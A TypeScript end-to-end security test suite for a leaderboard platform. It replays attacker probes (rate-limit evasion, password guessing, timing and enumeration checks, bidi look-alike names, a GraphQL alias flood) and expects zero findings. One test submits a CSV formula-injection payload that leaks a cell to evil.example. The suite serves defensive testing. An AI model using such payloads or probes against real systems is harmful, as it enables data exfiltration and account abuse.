/**
 * Issue #21, accounts and the network edge: each probe of the report replayed, with variants,
 * against the real api process and PostgreSQL, as an attacker on loopback would. Every probe
 * prints its answer and the number of findings (what got through); the suite expects 0 each.
 * Two api processes share the database: one with a low request limit (the rate-limit probe),
 * one without it (the others, so their requests do not trip it), each with its own pg-boss
 * schema (no worker takes their jobs; the job table is what the leaderboard probe counts).
 */
import { randomUUID } from 'node:crypto';
import { Client } from 'pg';
import { createDb, IdentityRepository, Role, SubmissionRepository, type Db } from '@podium/db';
import { parseCsv } from '@podium/contracts';
import { databaseUrl, startApiProcess, type RunningApp } from './support/processes';
import { createOrganiserToken } from '../support/database';

const QUEUE_SCHEMA = 'security_accounts';
const LIMITED_QUEUE_SCHEMA = 'security_accounts_limited';
/** Requests per window of the limited api. */
const LIMIT = 20;

interface GqlAnswer<T> {
  status: number;
  retryAfter: string | null;
  data?: T;
  errors?: { message: string; extensions?: Record<string, unknown> }[];
}

async function gql<T>(baseUrl: string, query: string, variables: Record<string, unknown> = {}, headers: Record<string, string> = {}): Promise<GqlAnswer<T>> {
  const res = await fetch(`${baseUrl}/graphql`, { method: 'POST', headers: { 'content-type': 'application/json', ...headers }, body: JSON.stringify({ query, variables }) });
  const body = (await res.json()) as { data?: T; errors?: GqlAnswer<T>['errors'] };
  return { status: res.status, retryAfter: res.headers.get('retry-after'), ...body };
}

const codeOf = (a: GqlAnswer<unknown>): string | undefined => {
  const code = a.errors?.[0]?.extensions?.['code'];
  return typeof code === 'string' ? code : undefined;
};
const errorOf = (body: Record<string, unknown>): string => (typeof body['error'] === 'string' ? body['error'] : '');
const median = (xs: number[]) => {
  const s = [...xs].sort((a, b) => a - b);
  const m = Math.floor(s.length / 2);
  return s.length % 2 ? (s[m] ?? 0) : ((s[m - 1] ?? 0) + (s[m] ?? 0)) / 2;
};

const REGISTER = `mutation($n: String!, $e: String!, $p: String!) { register(name: $n, email: $e, password: $p) { id name role teams { id } } }`;
const LOGIN = `mutation($l: String!, $p: String!) { login(login: $l, password: $p) { id name } }`;

describe('security probes: accounts and the network edge (issue #21)', () => {
  let db: Db;
  let api: RunningApp;
  let limited: RunningApp;
  let baseUrl: string;
  let limitedUrl: string;
  let organiser: string;
  const suffix = randomUUID().slice(0, 8);
  const report: string[] = [];

  function record(probe: string, findings: number, answer: string): void {
    report.push(`${probe}: ${answer} → ${findings} findings`);
    process.stdout.write(`[probe] ${probe}: ${answer} → ${findings} findings\n`);
  }

  beforeAll(async () => {
    const url = databaseUrl();
    db = createDb(url, { maxConnections: 2 });
    organiser = await createOrganiserToken(db, `sec-org-${suffix}`, 'security');
    ({ api, baseUrl } = await startApiProcess(url, 60_000, {
      PODIUM_QUEUE_SCHEMA: QUEUE_SCHEMA,
      PODIUM_RATE_LIMIT: '0',
      PODIUM_REGISTRATIONS_PER_HOUR: '1000',
      PODIUM_LOGIN_ADDRESS_FREE_FAILURES: '100000',
      // The alias and cost limits (ADR 0015) refuse a 252-alias query outright; lifted on this api
      // so that the probe tests what reads do when they are answered (the limited api keeps them).
      PODIUM_GRAPHQL_MAX_ALIASES: '1000',
      PODIUM_GRAPHQL_MAX_COST: '10000000',
    }));
    ({ api: limited, baseUrl: limitedUrl } = await startApiProcess(url, 60_000, { PODIUM_QUEUE_SCHEMA: LIMITED_QUEUE_SCHEMA, PODIUM_RATE_LIMIT: String(LIMIT), PODIUM_RATE_WINDOW_SECONDS: '600' }));
  });

  afterAll(async () => {
    process.stdout.write(`\nSecurity probes (issue #21)\n${report.join('\n')}\n`);
    await api?.stop();
    await limited?.stop();
    await db?.$disconnect();
  });

  it('counts every spelling of one token, and every token of one user, in one rate-limit window', async () => {
    const identity = new IdentityRepository(db);
    const user = await identity.createUser(`rate-${suffix}`, Role.PARTICIPANT);
    const token = await identity.issueToken(user.id, 'one');
    const second = await identity.issueToken(user.id, 'two');
    const me = '{ me { id } }';
    const statuses: number[] = [];
    for (let i = 0; i <= LIMIT; i++) statuses.push((await gql(limitedUrl, me, {}, { authorization: `Bearer ${token}` })).status);
    expect(statuses.slice(0, LIMIT).every((s) => s === 200)).toBe(true);
    expect(statuses[LIMIT]).toBe(429);
    const variants = [`bearer ${token}`, `BEARER ${token}`, `Bearer    ${token}   `, `\tBearer ${token}`, `Bearer ${second}`];
    const through: string[] = [];
    for (const v of variants) {
      const a = await gql(limitedUrl, me, {}, { authorization: v });
      if (a.status !== 429) through.push(`${JSON.stringify(v.replace(token, 'X').replace(second, 'Y'))} → ${a.status}`);
    }
    // Invented tokens count against the address: they buy no fresh windows either.
    const invented: number[] = [];
    for (let i = 0; i < LIMIT + 1; i++) invented.push((await gql(limitedUrl, me, {}, { authorization: `Bearer invented-${i}` })).status);
    const inventedThrough = invented.includes(429) ? 0 : 1;
    record('rate limit keyed on the identity', through.length + inventedThrough, `after 429, ${variants.length} header variants and a second token of the same user: ${through.length ? through.join(', ') : 'all 429'}; ${LIMIT + 1} invented tokens: ${invented.filter((s) => s === 429).length} × 429`);
    expect(through).toEqual([]);
    expect(invented).toContain(429);
  });

  it('throttles 100 wrong passwords for one account with growing waits (429, Retry-After)', async () => {
    const name = `guess-${suffix}`;
    expect((await gql(baseUrl, REGISTER, { n: name, e: `${name}@sec.test`, p: 'correct horse battery' })).errors).toBeUndefined();
    const answers: GqlAnswer<unknown>[] = [];
    for (let batch = 0; batch < 10; batch++) {
      answers.push(...(await Promise.all(Array.from({ length: 10 }, (_, i) => gql(baseUrl, LOGIN, { l: batch % 2 ? name.toUpperCase() : `${name}@sec.test`, p: `wrong-${batch}-${i}` })))));
    }
    const checked = answers.filter((a) => codeOf(a) === 'UNAUTHENTICATED').length;
    const limitedAnswers = answers.filter((a) => codeOf(a) === 'RATE_LIMITED');
    // By name and by e-mail are two logins (two keys): 5 free tries each, then one try per wait of
    // 1, 2, 4 … s; the whole probe takes a few seconds, so at most 4 more per key.
    const allowed = 2 * (5 + 4);
    const heads = [...new Set(limitedAnswers.map((a) => `HTTP ${a.status}, Retry-After ${a.retryAfter ?? 'none'}`))];
    record('password guessing', Math.max(0, checked - allowed), `100 wrong passwords (by e-mail and by name): ${checked} checked, ${limitedAnswers.length} refused as RATE_LIMITED (${heads.join('; ')})`);
    expect(checked).toBeLessThanOrEqual(allowed);
    expect(limitedAnswers.length).toBe(100 - checked);
    expect(limitedAnswers.every((a) => a.status === 429 && Number(a.retryAfter) >= 1)).toBe(true);
  });

  it('takes as long to refuse an unknown login as a known one (ratio of medians of 10 tries each)', async () => {
    const known: string[] = [];
    for (let i = 0; i < 10; i++) {
      const n = `timing-${i}-${suffix}`;
      await gql(baseUrl, REGISTER, { n, e: `${n}@sec.test`, p: 'correct horse battery' });
      known.push(n);
    }
    const times = { known: [] as number[], unknown: [] as number[] };
    for (let i = 0; i < 10; i++) {
      for (const [kind, login] of [['known', known[i] ?? ''], ['unknown', `nobody-${i}-${suffix}`]] as const) {
        const t = performance.now();
        const a = await gql(baseUrl, LOGIN, { l: login, p: 'wrong password!' });
        times[kind].push(performance.now() - t);
        expect(codeOf(a)).toBe('UNAUTHENTICATED');
      }
    }
    const ratio = median(times.known) / median(times.unknown);
    // Both run one scrypt (N = 16384): equal up to noise. Before: 76 ms against 9 ms, a ratio of 8.
    const findings = ratio > 2 || ratio < 0.5 ? 1 : 0;
    record('login timing', findings, `median known ${median(times.known).toFixed(1)} ms, unknown ${median(times.unknown).toFixed(1)} ms, ratio ${ratio.toFixed(2)} (tolerance 0.5–2)`);
    expect(findings).toBe(0);
  });

  it('answers a registration with a taken e-mail exactly as one with a fresh e-mail', async () => {
    const owner = `owner-${suffix}`;
    await gql(baseUrl, REGISTER, { n: owner, e: `${owner}@sec.test`, p: 'owner password 1' });
    const taken = await gql<{ register: Record<string, unknown> }>(baseUrl, REGISTER, { n: `probe-a-${suffix}`, e: `${owner}@sec.test`, p: 'probe password 1' });
    const fresh = await gql<{ register: Record<string, unknown> }>(baseUrl, REGISTER, { n: `probe-b-${suffix}`, e: `fresh-${suffix}@sec.test`, p: 'probe password 1' });
    const shape = (a: GqlAnswer<{ register: Record<string, unknown> }>) => JSON.stringify({ status: a.status, errors: a.errors ?? null, keys: Object.keys(a.data?.register ?? {}), role: a.data?.register['role'], teams: a.data?.register['teams'] });
    const differs = shape(taken) !== shape(fresh) ? 1 : 0;
    // The owner still signs in with the address; the second account signs in by its name.
    const ownerLogin = await gql(baseUrl, LOGIN, { l: `${owner}@sec.test`, p: 'owner password 1' });
    const probeByName = await gql(baseUrl, LOGIN, { l: `probe-a-${suffix}`, p: 'probe password 1' });
    record('registration enumeration', differs + (ownerLogin.errors ? 1 : 0), `taken e-mail ${shape(taken)}; fresh e-mail ${shape(fresh)}; owner still signs in: ${!ownerLogin.errors}; new account by name: ${!probeByName.errors}`);
    expect(differs).toBe(0);
    expect(ownerLogin.errors).toBeUndefined();
    expect(probeByName.errors).toBeUndefined();
  });

  it("refuses a user name in the form of an e-mail address, so nobody can take over another person's address as a login", async () => {
    const victim = `victim-${suffix}@sec.test`;
    const squat = await gql(baseUrl, REGISTER, { n: victim, e: `mallory-${suffix}@sec.test`, p: 'mallory password' });
    const real = await gql(baseUrl, REGISTER, { n: `victim-${suffix}`, e: victim, p: 'victim password 1' });
    const login = await gql<{ login: { name: string } }>(baseUrl, LOGIN, { l: victim, p: 'victim password 1' });
    const findings = (codeOf(squat) === 'INVALID_INPUT' ? 0 : 1) + (login.data?.login.name === `victim-${suffix}` ? 0 : 1);
    record('name = e-mail', findings, `register(name: "${victim}") → ${String(codeOf(squat))} (${squat.errors?.[0]?.message ?? ''}); the owner signs in with it as ${login.data?.login.name ?? 'nobody'}`);
    expect(findings).toBe(0);
    expect(real.errors).toBeUndefined();
  });

  it('refuses bidi and zero-width characters and treats case and width variants as the same name', async () => {
    const base = `alice${suffix}`;
    expect((await gql(baseUrl, REGISTER, { n: base, e: `${base}@sec.test`, p: 'alice password' })).errors).toBeUndefined();
    const tries: [string, string][] = [
      [`evil\u202Egnp.exe${suffix}`, 'U+202E'],
      [`Team\u202EAmaet${suffix}`, 'U+202E'],
      [`${base}\u200B`, 'U+200B'],
      [`${base}\u2066x`, 'U+2066'],
      [`Alice${suffix}`, 'CONFLICT'],
      [`ＡＬＩＣＥ${suffix}`, 'CONFLICT'],
    ];
    const accepted: string[] = [];
    const answers: string[] = [];
    for (const [n, expected] of tries) {
      const a = await gql(baseUrl, REGISTER, { n, e: `${randomUUID()}@sec.test`, p: 'some password' });
      const message = a.errors?.[0]?.message ?? '';
      answers.push(`${JSON.stringify(n)} → ${codeOf(a) ?? 'accepted'}`);
      if (!(expected === 'CONFLICT' ? codeOf(a) === 'CONFLICT' : codeOf(a) === 'INVALID_INPUT' && message.includes(expected) && message.includes('name'))) accepted.push(n);
    }
    // Team names: the same rules.
    const orgHeaders = { authorization: `Bearer ${organiser}` };
    await gql(baseUrl, `mutation($n: String!) { createTeam(name: $n) { id } }`, { n: `Team${suffix}` }, orgHeaders);
    for (const n of [`team${suffix}`, `ｔｅａｍ${suffix}`, `Te\u200Dam${suffix}`]) {
      const a = await gql(baseUrl, `mutation($n: String!) { createTeam(name: $n) { id } }`, { n }, orgHeaders);
      answers.push(`team ${JSON.stringify(n)} → ${codeOf(a) ?? 'accepted'}`);
      if (!a.errors) accepted.push(`team ${n}`);
    }
    record('look-alike names', accepted.length, answers.join('; '));
    expect(accepted).toEqual([]);
  });

  /** A task and an open phase with a test set; the leaderboard is public before the close. */
  async function openPhase(options: { dailyLimit?: number; oneTeamPerPerson?: boolean } = {}): Promise<{ slug: string; phaseId: string }> {
    const slug = `sec-${randomUUID().slice(0, 8)}`;
    const org = { authorization: `Bearer ${organiser}` };
    const t = await gql(baseUrl, `mutation($i: CreateTaskInput!) { createTask(input: $i) { slug } }`, {
      i: { slug, title: 'Security', kind: 'mt', sourceLang: 'de', targetLang: 'en', metrics: [{ key: 'bleu', name: 'bleu' }, { key: 'chrf', name: 'chrf' }], oneTeamPerPerson: options.oneTeamPerPerson ?? false },
    }, org);
    expect(t.errors).toBeUndefined();
    const p = await gql<{ createPhase: { id: string } }>(baseUrl, `mutation($i: CreatePhaseInput!) { createPhase(input: $i) { id } }`, {
      i: { taskSlug: slug, name: 'test', opensAt: '2020-01-01T00:00:00Z', closesAt: '2099-01-01T00:00:00Z', dailyLimit: options.dailyLimit ?? 5, totalLimit: 10, leaderboardBeforeClose: true },
    }, org);
    const phaseId = p.data?.createPhase.id ?? '';
    await gql(baseUrl, `mutation($p: ID!, $i: [TestInstanceInput!]!) { uploadTestSet(phaseId: $p, name: "ts", instances: $i) { id } }`, {
      p: phaseId,
      i: [{ id: 'i1', source: 'Das Haus ist klein.', references: ['the house is small'] }, { id: 'i2', source: 'Es regnet.', references: ['it is raining'] }],
    }, org);
    return { slug, phaseId };
  }

  async function signUp(name: string): Promise<string> {
    const a = await gql(baseUrl, REGISTER, { n: name, e: `${name}@sec.test`, p: 'participant password' });
    expect(a.errors).toBeUndefined();
    const identity = new IdentityRepository(db);
    const user = await identity.userByName(name);
    if (!user) throw new Error(`${name} was not registered`);
    return identity.issueToken(user.id, 'probe');
  }

  async function submit(phaseId: string, teamId: string, token: string, systemName: string): Promise<{ status: number; body: Record<string, unknown> }> {
    const form = new FormData();
    form.set('teamId', teamId);
    form.set('systemName', systemName);
    form.set('file', new Blob(['the house is small\nit rains\n'], { type: 'text/plain' }), 'out.txt');
    const res = await fetch(`${baseUrl}/api/phases/${phaseId}/submissions`, { method: 'POST', headers: { authorization: `Bearer ${token}` }, body: form });
    return { status: res.status, body: (await res.json()) as Record<string, unknown> };
  }

  async function countLeaderboardJobs(schema: string): Promise<number> {
    const c = new Client({ connectionString: databaseUrl() });
    await c.connect();
    try {
      const r = await c.query<{ n: string }>(`SELECT count(*) AS n FROM ${schema}.job WHERE name = 'compute-leaderboards'`);
      return Number(r.rows[0]?.n ?? 0);
    } finally {
      await c.end();
    }
  }

  it('queues no work for an anonymous query of 252 leaderboard aliases', async () => {
    const { phaseId } = await openPhase();
    // The phase's default views are queued once (as every write does); reads only find them waiting.
    await gql(baseUrl, `query($p: ID!) { leaderboard(phaseId: $p) { updating } }`, { p: phaseId }, { authorization: `Bearer ${organiser}` });
    const before = await countLeaderboardJobs(QUEUE_SCHEMA);
    const tests = [null, 'TTEST', 'WILCOXON', 'SIGN', 'MOOD', 'BOOTSTRAP', 'AR'];
    const corrections = [null, 'HOLM', 'BH', 'NONE'];
    const combos: string[] = [];
    for (const metric of [null, 'bleu', 'chrf']) for (const test of tests) for (const correction of corrections) for (const all of [false, true]) {
      combos.push(`phaseId: "${phaseId}"${metric ? `, metric: "${metric}"` : ''}${test ? `, test: ${test}` : ''}${correction ? `, correction: ${correction}` : ''}, allSubmissions: ${all}`);
    }
    const aliases = Array.from({ length: 252 }, (_, i) => `a${i}: leaderboard(${combos[i % combos.length] ?? ''}) { updating notes }`);
    const a = await gql<Record<string, { updating: boolean; notes: string[] }>>(baseUrl, `{ ${aliases.join('\n')} }`);
    const after = await countLeaderboardJobs(QUEUE_SCHEMA);
    const notComputed = Object.values(a.data ?? {}).filter((b) => b.notes.some((n) => n.includes('has not been computed yet'))).length;
    record('anonymous reads queue work', after - before, `252 aliases: ${a.errors ? `errors ${a.errors[0]?.message ?? ''}` : 'answered'}, ${notComputed} say "not computed yet"; compute-leaderboards jobs ${before} → ${after}`);
    if (a.errors) process.stdout.write(api.logs.filter((l) => l.includes('error')).join('').slice(-4000));
    expect(a.errors).toBeUndefined();
    expect(after - before).toBe(0);
    expect(notComputed).toBeGreaterThan(0);
    // With the default limits the same query is refused before anything resolves: the alias limit
    // (graphql-armor.spec.ts, security-edge.e2e.spec.ts).
  });

  it('writes a system name that is a spreadsheet formula as text in scores.csv', async () => {
    const { phaseId } = await openPhase();
    const token = await signUp(`csv-${suffix}`);
    const team = await gql<{ createMyTeam: { id: string } }>(baseUrl, `mutation($n: String!) { createMyTeam(name: $n) { id } }`, { n: `csv-team-${suffix}` }, { authorization: `Bearer ${token}` });
    const teamId = team.data?.createMyTeam.id ?? '';
    const formula = '=HYPERLINK("http://evil.example/?"&A1,"click")';
    const s = await submit(phaseId, teamId, token, formula);
    expect(s.status).toBe(201);
    const id = String(s.body['submissionId']);
    const instances = await db.instance.findMany({ where: { testSet: { phases: { some: { id: phaseId } } } }, orderBy: { position: 'asc' } });
    await new SubmissionRepository(db).saveScores(id, [{ metric: 'bleu', signature: 'bleu|test', values: instances.map(() => -1.5) }], [{ metric: 'bleu', signature: 'bleu|test', value: -1.5 }]);
    const res = await fetch(`${baseUrl}/api/submissions/${id}/scores.csv`, { headers: { authorization: `Bearer ${token}` } });
    const rows = parseCsv(await res.text());
    const cells = rows.slice(1).map((r) => r[0] ?? '');
    const live = cells.filter((c) => /^[=+\-@\t\r]/.test(c)).length;
    const jsonl = await (await fetch(`${baseUrl}/api/submissions/${id}/scores.jsonl`, { headers: { authorization: `Bearer ${token}` } })).text();
    record('CSV formula injection', live, `system cells ${JSON.stringify(cells[0])} (${cells.length} rows), score cells ${JSON.stringify(rows[1]?.[5])}; JSONL keeps ${JSON.stringify((JSON.parse(jsonl.split('\n')[0] ?? '{}') as { system?: string }).system)}`);
    expect(res.status).toBe(200);
    expect(live).toBe(0);
    expect(cells[0]).toBe(`'${formula}`);
    expect(rows[1]?.[5]).toBe('-1.5');
    expect(jsonl).toContain(JSON.stringify(formula));
  });

  it('gives teams 128-bit invite codes that members rotate, and lets members leave and owners remove', async () => {
    const ownerToken = await signUp(`owner2-${suffix}`);
    const memberToken = await signUp(`member2-${suffix}`);
    const as = (t: string) => ({ authorization: `Bearer ${t}` });
    const codes: string[] = [];
    let teamId = '';
    for (let i = 0; i < 5; i++) {
      const t = await gql<{ createMyTeam: { id: string; inviteCode: string } }>(baseUrl, `mutation($n: String!) { createMyTeam(name: $n) { id inviteCode } }`, { n: `code-${i}-${suffix}` }, as(ownerToken));
      codes.push(t.data?.createMyTeam.inviteCode ?? '');
      if (i === 0) teamId = t.data?.createMyTeam.id ?? '';
    }
    const wellFormed = codes.filter((c) => /^[A-Za-z0-9_-]{22}$/.test(c) && Buffer.from(c, 'base64url').length === 16).length;
    const joined = await gql(baseUrl, `mutation($c: String!) { joinTeam(inviteCode: $c) { id } }`, { c: codes[0] }, as(memberToken));
    expect(joined.errors).toBeUndefined();
    const rotated = await gql<{ rotateInviteCode: { inviteCode: string } }>(baseUrl, `mutation($t: ID!) { rotateInviteCode(teamId: $t) { inviteCode } }`, { t: teamId }, as(memberToken));
    const newCode = rotated.data?.rotateInviteCode.inviteCode ?? '';
    const outsider = await signUp(`outsider-${suffix}`);
    const oldCode = await gql(baseUrl, `mutation($c: String!) { joinTeam(inviteCode: $c) { id } }`, { c: codes[0] }, as(outsider));
    const memberRemoves = await gql(baseUrl, `mutation($t: ID!, $u: ID!) { removeTeamMember(teamId: $t, userId: $u) { id } }`, { t: teamId, u: (await new IdentityRepository(db).userByName(`owner2-${suffix}`))?.id }, as(memberToken));
    const memberId = (await new IdentityRepository(db).userByName(`member2-${suffix}`))?.id;
    const ownerRemoves = await gql<{ removeTeamMember: { members: { id: string }[] } }>(baseUrl, `mutation($t: ID!, $u: ID!) { removeTeamMember(teamId: $t, userId: $u) { members { id } } }`, { t: teamId, u: memberId }, as(ownerToken));
    const left = await gql<{ leaveTeam: { ownerId: string | null } }>(baseUrl, `mutation($t: ID!) { leaveTeam(teamId: $t) { ownerId } }`, { t: teamId }, as(ownerToken));
    const findings =
      5 - wellFormed + (new Set(codes).size === 5 ? 0 : 1) + (/^[A-Za-z0-9_-]{22}$/.test(newCode) && newCode !== codes[0] ? 0 : 1) + (codeOf(oldCode) === 'NOT_FOUND' ? 0 : 1) + (codeOf(memberRemoves) === 'FORBIDDEN' ? 0 : 1) + (ownerRemoves.errors ? 1 : 0) + (left.errors ? 1 : 0);
    record('team invite codes and membership', findings, `${wellFormed}/5 codes of 22 base64url characters (128 bits), ${new Set(codes).size} distinct; rotated code works, old → ${String(codeOf(oldCode))}; a member removing the owner → ${String(codeOf(memberRemoves))}; owner removes → ${ownerRemoves.errors ? 'refused' : `${ownerRemoves.data?.removeTeamMember.members.length ?? 0} member(s) left`}; owner leaves → ${left.errors ? 'refused' : 'left'}`);
    expect(findings).toBe(0);
  });

  it('gives a second team of the same person no more submissions where the task allows one team per person', async () => {
    const { slug, phaseId } = await openPhase({ dailyLimit: 1, oneTeamPerPerson: true });
    const token = await signUp(`quota-${suffix}`);
    const as = { authorization: `Bearer ${token}` };
    const make = async (n: string) => (await gql<{ createMyTeam: { id: string } }>(baseUrl, `mutation($n: String!) { createMyTeam(name: $n) { id } }`, { n }, as)).data?.createMyTeam.id ?? '';
    const first = await make(`quota-a-${suffix}`);
    expect((await submit(phaseId, first, token, 'sys-1')).status).toBe(201);
    const again = await submit(phaseId, first, token, 'sys-2');
    // A second team while still in the first: refused at registration.
    const second = await make(`quota-b-${suffix}`);
    const viaSecond = await submit(phaseId, second, token, 'sys-3');
    const register = await gql(baseUrl, `mutation($s: String!, $t: ID!) { registerTeam(taskSlug: $s, teamId: $t) { status } }`, { s: slug, t: second }, as);
    // Leaving the first team first: the person's own submissions still count.
    await gql(baseUrl, `mutation($t: ID!) { leaveTeam(teamId: $t) { id } }`, { t: first }, as);
    const afterLeaving = await submit(phaseId, second, token, 'sys-4');
    const got = [again, viaSecond, afterLeaving].filter((s) => s.status === 201).length;
    record('second team bypasses the quota', got, `daily limit 1: same team → ${again.status}; second team → ${viaSecond.status} (${errorOf(viaSecond.body)}); registerTeam → ${codeOf(register) ?? 'ok'}; after leaving the first → ${afterLeaving.status} (${errorOf(afterLeaving.body)})`);
    expect(got).toBe(0);
  });
});
